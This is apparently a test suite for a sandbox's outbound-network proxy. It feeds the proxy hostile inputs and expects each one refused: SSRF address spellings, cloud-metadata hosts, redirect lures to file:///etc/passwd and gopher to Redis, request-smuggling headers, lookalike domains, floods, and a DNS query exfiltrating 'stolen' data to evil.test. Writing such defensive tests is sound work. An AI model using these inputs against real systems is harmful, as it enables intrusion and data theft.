import { expect } from "vitest";
import { type RecordedEgress, type RecordedEgressOptions, recordedEgress } from "../../support/recorded-egress.ts";
import type { Ran } from "../ground.ts";
import { brief, expectReason, type HostileCase, hostile, type Traits } from "../hostile-case.ts";

/** An address of the internet that no test reaches. */
const far = "93.184.216.34";

/** Speaks to the proxies byte by byte, so that no client's good manners stand before ours. */
const client = String.raw`
import errno, json, socket, struct, sys
def talk(raw, port=3128, wait=8):
    one = socket.create_connection(("127.0.0.1", port), wait)
    try:
        one.sendall(raw.encode("latin-1") if isinstance(raw, str) else raw)
        heard = b""
        while len(heard) < 100000:
            piece = one.recv(65536)
            if not piece: break
            heard += piece
        return heard.decode("latin-1")
    except (ConnectionError, TimeoutError) as error:
        return type(error).__name__
    finally:
        one.close()
def status(raw):
    answer = talk(raw)
    return answer.split(" ")[1] if answer.startswith("HTTP/1.1 ") else answer[:40] or "closed"
def connect(place): return status("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (place, place))
def get(url, *headers, host=None):
    host = host if host is not None else url.split("/")[2] if url.count("/") > 1 else "x"
    return status("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (url, host, "".join(one + "\r\n" for one in headers)))
def socks(host, port=80):
    name = host.encode("latin-1")
    raw = b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", port)
    answer = talk(raw, 1080)
    return str(ord(answer[3])) if len(answer) > 3 else answer[:20] or "closed"
def reached(what):
    try: what()
    except OSError as error: return errno.errorcode.get(error.errno, type(error).__name__)
    return "reached"
def say(**what): print(json.dumps(what))
`;

interface EgressRow extends RecordedEgressOptions {
  readonly allow?: readonly string[];
  /** Python; prints one object. */
  readonly code: string;
  /** For another program than that. */
  readonly image?: string;
  readonly argv?: readonly string[];
  readonly limits?: Readonly<Record<string, unknown>>;
}

/** A task with this way out; what it printed, and what left. */
function egressRow(
  id: string,
  name: string,
  { allow = ["public.test", "http://public.test"], code, image = "python", argv, limits = {}, ...options }: EgressRow,
  expected: (said: Record<string, unknown>, outside: RecordedEgress, ran: Ran) => void,
  traits: Traits = {},
): HostileCase {
  return hostile(
    id,
    name,
    async (ground) => {
      await using outside = await recordedEgress({ names: { "public.test": [[far]] }, ...options });
      const house = { ...ground.house, parts: { ...ground.house.parts, egress: outside.egress } };
      const ran = await ground.run(
        {
          tool_name: "shell",
          image,
          payload: { argv: argv ?? ["python3", "-c", client + code] },
          limits: { timeout_seconds: 60, ...limits },
          network: { allow },
        },
        { house },
      );
      expectReason(ran.result, "ok");
      expected(JSON.parse(ran.result.output.stdout), outside, ran);
    },
    { ...brief, ...traits },
  );
}

const nothingLeft = ({ dialled }: RecordedEgress): void => expect(dialled, "what was connected to").toEqual([]);

const thisHost = ["127.0.0.1", "localhost", "localhost.", "LOCALHOST", "127.0.0.1.nip.io", "localtest.me"];
const otherSpellings = [
  ...["0.0.0.0", "0", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "017700000001", "127.0.0.1%00"],
  "\u00ef\u00bc\u0091\u00ef\u00bc\u0092\u00ef\u00bc\u0097.0.0.1",
];
const sixes = [
  ...["[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:a9fe:a9fe]", "[fe80::1%25eth0]"],
  "[fc00::1]",
];
const metadata = [
  ...["169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "100.100.100.200", "168.63.129.16"],
  "192.0.0.192",
];
const closedRanges = [
  ...["10.0.0.1", "172.16.0.1", "172.31.255.255", "192.168.0.1", "100.64.0.1", "100.127.255.255", "198.18.0.1"],
  ...["198.19.255.255", "224.0.0.1", "239.255.255.255", "240.0.0.1", "255.255.255.255", "100.63.255.255"],
];

/** Each host asked for in every way there is. */
const everyWay = (hosts: readonly string[]): string => `
hosts = json.loads(${JSON.stringify(JSON.stringify(hosts))})
answers = {}
for host in hosts:
    bare = host.strip("[]")
    answers[host] = [connect(host + ":443"), get("http://%s/" % host), get("http://%s:8080/" % host), socks(bare), socks(host, 443)]
say(**answers)`;

function refusedSpellings(id: string, name: string, hosts: readonly string[]): HostileCase {
  return egressRow(
    id,
    name,
    { code: everyWay(hosts) },
    (said, outside) => {
      for (const host of hosts)
        expect(said[host], host).toEqual([
          expect.stringMatching(/^(400|403)$/),
          expect.stringMatching(/^(400|403)$/),
          expect.stringMatching(/^(400|403)$/),
          expect.stringMatching(/^[1-8]$/),
          expect.stringMatching(/^[1-8]$/),
        ]);
      nothingLeft(outside);
      expect(outside.resolved, "names that were asked for").toEqual([]);
    },
    { inputs: hosts.length * 5 },
  );
}

/** Names that may be reached, and lead where nobody may go. */
function leadsNowhere(id: string, name: string, addresses: readonly string[]): HostileCase {
  const names = Object.fromEntries(
    addresses.map((address, index) => [`n${index}.lure.test`, [[address.replace(/^\[|\]$/g, "")]]]),
  );
  return egressRow(
    id,
    name,
    {
      names,
      allow: ["*.lure.test:443", "http://*.lure.test"],
      code: `
hosts = json.loads(${JSON.stringify(JSON.stringify(Object.keys(names)))})
say(**{host: [connect(host + ":443"), get("http://%s/" % host), socks(host, 443)] for host in hosts})`,
    },
    (said, outside) => {
      for (const [host, answers] of Object.entries(said))
        expect(answers, host).toEqual(["403", "403", expect.stringMatching(/^[1-8]$/)]);
      nothingLeft(outside);
    },
    { inputs: addresses.length * 3 },
  );
}

const probe = String.raw`
def tcp(address, port, family=socket.AF_INET):
    one = socket.socket(family, socket.SOCK_STREAM); one.settimeout(3)
    return reached(lambda: one.connect((address, port)))
def udp(address, port, family=socket.AF_INET):
    one = socket.socket(family, socket.SOCK_DGRAM); one.settimeout(1)
    def both():
        one.sendto(b"\x00" * 32, (address, port)); one.recvfrom(1)
    return reached(both)
`;

const services = [5432, 6379, 9092, 9000, 2375, 7117];

const lures = [
  ...["http://169.254.169.254/", "http://127.0.0.1/", "http://[::1]/", "http://10.0.0.1/", "http://other.test/"],
  ...["file:///etc/passwd", "gopher://127.0.0.1:6379/_x", "dict://127.0.0.1:11211/x"],
];

/** What curl met, by where it was sent. */
const followRedirects = `
ask() { curl -sSL --max-redirs 30 -o /dev/null -w '%{http_code} %{num_redirects}' "$1" 2>/dev/null; }
for lure in round ${lures.map((lure) => `'${lure}'`).join(" ")}; do
  path=$([ "$lure" = round ] && echo round || jq -rn --arg x "$lure" '$x|@uri')
  jq -n --arg key "$lure" --arg met "$(ask "http://public.test/$path")" '{($key): $met}'
done | jq -sc add`;

export const egressRows: readonly HostileCase[] = [
  egressRow(
    "F1",
    "no network.allow: nothing is there but lo",
    {
      allow: [],
      code: `${probe}
interfaces = sorted(one for _, one in socket.if_nameindex())
say(interfaces=interfaces, out=tcp("${far}", 443), proxy=tcp("127.0.0.1", 3128), socks=tcp("127.0.0.1", 1080))`,
    },
    (said, outside) => {
      expect(said).toEqual({ interfaces: ["lo"], out: "ENETUNREACH", proxy: "ECONNREFUSED", socks: "ECONNREFUSED" });
      nothingLeft(outside);
    },
  ),
  egressRow(
    "F2",
    "a client that knows no proxy",
    {
      code: `${probe}
say(address=tcp("${far}", 443), name=reached(lambda: socket.create_connection(("public.test", 443), 3)) != "reached")`,
    },
    (said, outside) => {
      expect(said).toEqual({ address: "ENETUNREACH", name: true });
      nothingLeft(outside);
    },
  ),
  refusedSpellings("F3", "this host, by its names", thisHost),
  refusedSpellings("F4", "other spellings of an address", otherSpellings),
  refusedSpellings("F5", "IPv6, and IPv4 within it", sixes),
  leadsNowhere("F5", "names that lead to IPv6 which is closed", [
    "[::1]",
    "[::ffff:10.0.0.1]",
    "[fc00::1]",
    "[64:ff9b::a00:1]",
  ]),
  refusedSpellings("F7", "where clouds keep secrets", metadata),
  leadsNowhere(
    "F7",
    "names that lead there",
    metadata.filter((one) => !one.endsWith("internal")),
  ),
  refusedSpellings("F8", "ranges of nobody's and everybody's", closedRanges),
  leadsNowhere(
    "F8",
    "names that lead into them",
    closedRanges.filter((one) => one !== "100.63.255.255"),
  ),
  egressRow(
    "F8",
    "their edges are the internet's",
    {
      names: { "a.edge.test": [["100.63.255.255"]], "b.edge.test": [["100.128.0.0"]] },
      allow: ["http://*.edge.test"],
      code: `say(a=get("http://a.edge.test/"), b=get("http://b.edge.test/"))`,
    },
    (said, { dialled }) => {
      expect(said).toEqual({ a: "200", b: "200" });
      expect(dialled).toEqual(["100.63.255.255 80", "100.128.0.0 80"]);
    },
  ),
  egressRow(
    "F9",
    "a host that may be reached sends on to one that may not, and round and round",
    {
      answer: (socket, soFar) => {
        if (!soFar.endsWith("\r\n\r\n")) return;
        const path = soFar.split(" ")[1] ?? "";
        const to = path.startsWith("/round") ? "http://public.test/round" : decodeURIComponent(path.slice(1));
        socket.end(`HTTP/1.1 302 Found\r\nLocation: ${to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`);
      },
      image: "shell",
      argv: ["bash", "-c", followRedirects],
      code: "",
    },
    (said, { dialled }) => {
      for (const [lure, met] of Object.entries(said))
        expect(met, lure).toMatch(lure === "round" ? /^302 30$/ : /^(403 1|302 [01]|000 [01])$/);
      expect(new Set(dialled)).toEqual(new Set([`${far} 80`]));
    },
    { inputs: 9 },
  ),
  egressRow(
    "F10",
    "names that change, and names with two faces",
    {
      names: {
        "turns.test": [[far], ["10.0.0.5"]],
        "mixed.test": [[far, "10.0.0.5"]],
        "six.test": [[far, "fc00::5"]],
      },
      allow: ["http://turns.test", "http://mixed.test", "http://six.test"],
      code: `say(first=get("http://turns.test/"), second=get("http://turns.test/"), mixed=get("http://mixed.test/"), six=get("http://six.test/"))`,
    },
    (said, { dialled, resolved }) => {
      expect(said).toEqual({ first: "200", second: "403", mixed: "403", six: "403" });
      expect(dialled).toEqual([`${far} 80`]);
      expect(resolved, "each is asked for once a connection").toEqual([
        "turns.test",
        "turns.test",
        "mixed.test",
        "six.test",
      ]);
    },
    { inputs: 4 },
  ),
  egressRow(
    "F11",
    "names that look like one that is allowed",
    {
      names: { "github.test": [[far]] },
      allow: ["http://github.test"],
      code: everyWay([
        ...["g\u00d1\u0096thub.test", "xn--gthub-n4a.test", "github.test.evil.test", "evilgithub.test", "github.tes"],
        ...["github.test@evil.test", "github.test:80@evil.test", "a.github.test"],
      ]).replace("say(", `say(same=[get("http://GitHub.TEST/"), get("http://github.test./", host="github.test.")], `),
    },
    ({ same, ...said }, { dialled }) => {
      expect(same).toEqual(["200", "200"]);
      for (const [host, answers] of Object.entries(said))
        expect(
          (answers as string[]).every((answer) => !["200", "0"].includes(answer)),
          `${host}: ${answers}`,
        ).toBe(true);
      expect(dialled).toEqual([`${far} 80`, `${far} 80`]);
    },
    { inputs: 11 },
  ),
  hostile(
    "F13",
    "entries that allow everything",
    async (ground) => {
      for (const entry of [
        "*",
        "*.com",
        "*.co.uk",
        "a.*.com",
        "http://*",
        "*:443",
        "",
        "tcp://public.test:5432",
        "127.0.0.1",
        "[::1]:80",
      ]) {
        const error = await ground.refused({
          ...{ tenant_id: "hostile", task_id: "egress-entry", tool_name: "shell", payload: { command: "true" } },
          network: { allow: [entry] },
        });
        expect(error, entry).toMatchObject({ code: expect.stringMatching(/^(policy_denied|validation)$/) });
        expect(JSON.stringify(error), entry).toContain("/network/allow");
      }
    },
    { inputs: 10, isBrief: true },
  ),
  egressRow(
    "F14",
    "CONNECT to addresses, and to ports that nobody allowed",
    {
      code: `places = ["${far}:443", "[2606:2800:220:1::1]:443", "public.test:22", "public.test:25", "public.test:0", "public.test:65536", "public.test:+443", "public.test:443.0", "public.test:0443", "public.test", ":443", "public.test:443:443"]
say(**{place: connect(place) for place in places})`,
    },
    (said, outside) => {
      for (const [place, answer] of Object.entries(said)) expect(answer, place).toMatch(/^(400|403|closed)$/);
      nothingLeft(outside);
    },
    { inputs: 12 },
  ),
  egressRow(
    "F16",
    "requests that name two hosts",
    {
      code: `say(other=get("http://public.test/", host="127.0.0.1"), two=get("http://public.test/", "Host: evil.test"), ports=get("http://public.test/", host="public.test:80,81"), user=get("http://public.test@evil.test/"), none=status("GET http://public.test/ HTTP/1.1\\r\\n\\r\\n"), path=status("GET / HTTP/1.1\\r\\nHost: public.test\\r\\n\\r\\n"))`,
    },
    (said, outside) => {
      for (const [what, answer] of Object.entries(said)) expect(answer, what).toMatch(/^40[03]$/);
      nothingLeft(outside);
    },
    { inputs: 6 },
  ),
  egressRow(
    "F18",
    "requests with two ends",
    {
      code: String.raw`
def post(*headers, body=""):
    return status("POST http://public.test/ HTTP/1.1\r\nHost: public.test\r\n" + "".join(one + "\r\n" for one in headers) + "\r\n" + body)
say(both=post("Content-Length: 4", "Transfer-Encoding: chunked", body="0\r\n\r\n"), xchunked=post("Transfer-Encoding: xchunked", body="0\r\n\r\n"),
  identity=post("Transfer-Encoding: chunked, identity", body="0\r\n\r\n"), twice=post("Content-Length: 4", "Content-Length: 5", body="abcde"), negative=post("Content-Length: -1"),
  fold=post("X-One: a\r\n b", "Content-Length: 0"), lf=status("GET http://public.test/ HTTP/1.1\nHost: public.test\n\n"), space=post("Content-Length : 0"),
  extension=post("Transfer-Encoding: chunked", body="1;" + "x" * 1000000 + "\r\na\r\n0\r\n\r\n"))`,
    },
    (said, { server }) => {
      for (const [what, answer] of Object.entries(said))
        expect(answer, what).toMatch(/^(400|403|413|431|501|closed|ConnectionResetError|BrokenPipeError)$/);
      // What did come through came as one request of ours.
      for (const heard of server.heard().filter((text) => text !== ""))
        expect(heard.match(/HTTP\/1\.1\r\n/g) ?? [], heard).toHaveLength(1);
    },
    { inputs: 9 },
  ),
  egressRow(
    "F19",
    "other protocols within HTTP",
    {
      code: String.raw`say(h2c=get("http://public.test/", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), websocket=get("http://public.test/", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"), preface=status("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))`,
    },
    (said, outside) => {
      for (const [what, answer] of Object.entries(said)) expect(answer, what).toMatch(/^(400|403|501|505|closed)$/);
      nothingLeft(outside);
    },
    { inputs: 3 },
  ),
  egressRow(
    "F20",
    "an answer without end",
    {
      caps: { maxBytes: 64 * 1024 * 1024 },
      answer: (socket, soFar) => {
        if (!soFar.endsWith("\r\n\r\n")) return;
        socket.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
        const chunk = Buffer.concat([Buffer.from("10000\r\n"), Buffer.alloc(0x10000, "x"), Buffer.from("\r\n")]);
        const more = (): void => {
          while (!socket.destroyed && socket.write(chunk));
        };
        socket.on("drain", more);
        more();
      },
      code: String.raw`
one = socket.create_connection(("127.0.0.1", 3128), 20)
one.sendall(b"GET http://public.test/ HTTP/1.1\r\nHost: public.test\r\n\r\n")
total = 0
try:
    while piece := one.recv(1 << 20): total += len(piece)
except ConnectionError: pass
say(mib=total >> 20)`,
    },
    (said, { events }) => {
      expect(said.mib).toBeGreaterThan(40);
      expect(said.mib).toBeLessThanOrEqual(64);
      expect(events.map(({ why }) => why)).toEqual([expect.stringContaining("the most that is allowed")]);
    },
    { isBrief: false },
  ),
  egressRow(
    "F20",
    "headers without end, and an answer byte by byte",
    {
      caps: { totalMs: 4_000 },
      answer: (socket, soFar) => {
        if (!soFar.endsWith("\r\n\r\n")) return;
        const path = soFar.split(" ")[1];
        if (path === "/many") socket.end(`HTTP/1.1 200 OK\r\n${"X: y\r\n".repeat(100_000)}\r\n`);
        else if (path === "/long") socket.end(`HTTP/1.1 200 OK\r\nX: ${"y".repeat(1_000_000)}\r\n\r\n`);
        else if (path === "/continue") socket.end("HTTP/1.1 100 Continue\r\n\r\n".repeat(100_000));
        else socket.write("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n1");
      },
      code: `say(**{path: get("http://public.test/" + path) for path in ["many", "long", "continue", "drip"]})`,
    },
    (said, { events }) => {
      expect(said).toEqual({
        many: expect.stringMatching(/^(502|closed|ConnectionResetError)$/),
        long: expect.stringMatching(/^(502|closed|ConnectionResetError)$/),
        continue: expect.stringMatching(/^(502|closed|ConnectionResetError)$/),
        drip: expect.stringMatching(/^(200|502|closed|ConnectionResetError)$/),
      });
      expect(events).toHaveLength(4);
    },
    { isBrief: false, inputs: 4 },
  ),
  egressRow(
    "F21",
    "ten thousand connections, half open, never read",
    {
      allow: ["public.test"],
      caps: { maxConnections: 16, helloMs: 2_000 },
      code: String.raw`
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held, met = [], {"ok": 0, "not": 0}
for _ in range(10000):
    try:
        one = socket.create_connection(("127.0.0.1", 3128), 5)
        one.sendall(b"CONNECT public.test:443 HTTP/1.1\r\nHost: public.test:443\r\n\r\n")
        held.append(one)
        met["ok"] += 1
    except OSError:
        met["not"] += 1
    if len(held) > 200: held.pop(0).close()
for one in held: one.close()
say(tried=met["ok"] + met["not"])`,
      limits: { timeout_seconds: 100 },
    },
    (said, { events, dialled }, { result }) => {
      expect(said.tried).toBe(10_000);
      expect(dialled.length).toBeGreaterThan(0);
      // What its result holds of them is bounded, whatever it tried.
      expect(result.egress.length).toBeLessThanOrEqual(100);
      // Refusals beyond the thousandth are counted, and recorded as a number.
      expect(result.metrics.egress_connections ?? 0).toBeGreaterThanOrEqual(events.length - 1);
    },
    { isBrief: false, inputs: 10_000, boundMs: 180_000 },
  ),
  egressRow(
    "F22",
    "a gigabyte for a host that may be reached",
    {
      caps: { maxBytes: 8 * 1024 * 1024 },
      answer: () => undefined,
      code: String.raw`
one = socket.create_connection(("127.0.0.1", 3128), 20)
one.sendall(b"POST http://public.test/ HTTP/1.1\r\nHost: public.test\r\nContent-Length: 1073741824\r\n\r\n")
sent = 0
try:
    while sent < 1 << 30: one.sendall(b"x" * 65536); sent += 65536
except OSError: pass
say(mib=sent >> 20)`,
    },
    (said, { server }, { result }) => {
      expect(said.mib).toBeLessThan(24);
      const arrived = server.heard().reduce((sum, text) => sum + text.length, 0);
      expect(arrived).toBeLessThanOrEqual(8 * 1024 * 1024);
      expect(result.egress[0]?.bytes_out).toBeGreaterThan(7 * 1024 * 1024);
      // Refused, and not left waiting for its own patience of 20 s.
      expect(result.metrics.run_ms).toBeLessThan(15_000);
    },
    { isBrief: false },
  ),
  egressRow(
    "F23",
    "UDP, QUIC, ICMP, SCTP",
    {
      code: `${probe}
def made(*how): return reached(lambda: socket.socket(*how))
say(udp=udp("${far}", 443), dns=udp("8.8.8.8", 53), six=udp("2606:2800:220:1::1", 443, socket.AF_INET6), icmp=made(socket.AF_INET, socket.SOCK_DGRAM, 1), raw=made(socket.AF_INET, socket.SOCK_RAW, 1), sctp=made(socket.AF_INET, socket.SOCK_STREAM, 132))`,
    },
    (said, outside) => {
      for (const [what, answer] of Object.entries(said)) expect(answer, what).not.toBe("reached");
      nothingLeft(outside);
    },
    { inputs: 6 },
  ),
  egressRow(
    "F25",
    "a secret in the name of a host",
    {
      code: `${probe}
name = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06stolen\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01"
def ask(server):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.settimeout(1)
    def both():
        one.sendto(name, (server, 53)); one.recvfrom(512)
    return reached(both)
say(engine=ask("127.0.0.11"), far=ask("8.8.8.8"), proxy=connect("stolen.evil.test:443"), plain=get("http://stolen.evil.test/"), socks=socks("stolen.evil.test"), resolver=reached(lambda: socket.getaddrinfo("stolen.evil.test", 443)))`,
    },
    (said, outside) => {
      expect(said).toMatchObject({ proxy: "403", plain: "403" });
      for (const [what, answer] of Object.entries(said)) expect(["200", "0", "reached"], what).not.toContain(answer);
      expect(outside.resolved, "names that were asked for").toEqual([]);
      nothingLeft(outside);
    },
    { isBrief: false, inputs: 6 },
  ),
  egressRow(
    "F26",
    "the host's services, by gateway, bridge and link-local",
    {
      code: `${probe}
hosts = ["172.17.0.1", "10.0.2.2", "192.168.65.254", "169.254.1.1", "127.0.0.1", "host.docker.internal", "gateway.docker.internal"]
say(direct=sorted({tcp(host, port) for host in hosts[:4] for port in ${JSON.stringify(services)}}), six=sorted({tcp(host, port, socket.AF_INET6) for host in ["fe80::1", "fd00::1"] for port in ${JSON.stringify(services)}}), lo=sorted({tcp("127.0.0.1", port) for port in ${JSON.stringify(services)}}), proxy=sorted({connect("%s:%d" % (host, port)) for host in hosts for port in ${JSON.stringify(services)}}), six_proxy=sorted({connect("[%s]:%d" % (host, port)) for host in ["::1", "fe80::1"] for port in ${JSON.stringify(services)}}))`,
    },
    (said, outside) => {
      expect(said).toMatchObject({ lo: ["ECONNREFUSED"], proxy: ["403"] });
      const isClosed = expect.arrayContaining([
        expect.stringMatching(/^(ENETUNREACH|EADDRNOTAVAIL|EINVAL|EAFNOSUPPORT|ENODEV)$/),
      ]);
      expect(said.direct).toEqual(["ENETUNREACH"]);
      expect(said.six).toEqual(isClosed);
      expect(said.six_proxy).toEqual([expect.stringMatching(/^40[03]$/)]);
      nothingLeft(outside);
    },
    { inputs: services.length * 17 },
  ),
  egressRow(
    "F28",
    "the resolver away, and the operator's record that cannot be written",
    {
      names: {},
      code: `say(away=get("http://public.test/"))`,
    },
    (said, outside, { result }) => {
      expect(said).toEqual({ away: "502" });
      expect(result.egress).toMatchObject([{ host: "public.test", port: 80, verdict: "failed" }]);
      nothingLeft(outside);
    },
  ),
];
